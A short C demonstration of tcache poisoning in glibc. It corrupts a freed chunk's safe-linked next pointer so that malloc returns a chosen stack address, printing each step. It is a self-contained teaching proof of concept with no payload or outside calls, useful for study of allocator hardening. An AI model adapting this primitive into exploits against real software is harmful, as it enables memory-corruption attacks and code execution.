/* Overwriting a freed tcache chunk's next pointer (safe-linked) to get a stack address back. */
#include <stdio.h>
#include <stdlib.h>
#include <stdint.h>
#include <assert.h>

int main(void) {
    setbuf(stdin, NULL);
    setbuf(stdout, NULL);
    size_t target[6] __attribute__((aligned(0x10)));
    printf("target is at %p\n", (void *)target);
    intptr_t *a = malloc(128);
    intptr_t *b = malloc(128);
    printf("a = %p, b = %p\n", (void *)a, (void *)b);
    free(a);
    free(b);
    printf("b's next (mangled) = %#lx\n", (unsigned long)b[0]);
    b[0] = (intptr_t)((long)target ^ ((long)b >> 12));
    printf("b's next now = %#lx\n", (unsigned long)b[0]);
    void *first = malloc(128);
    intptr_t *second = malloc(128);
    printf("first = %p, second = %p\n", first, (void *)second);
    assert((long)second == (long)target);
    return 0;
}
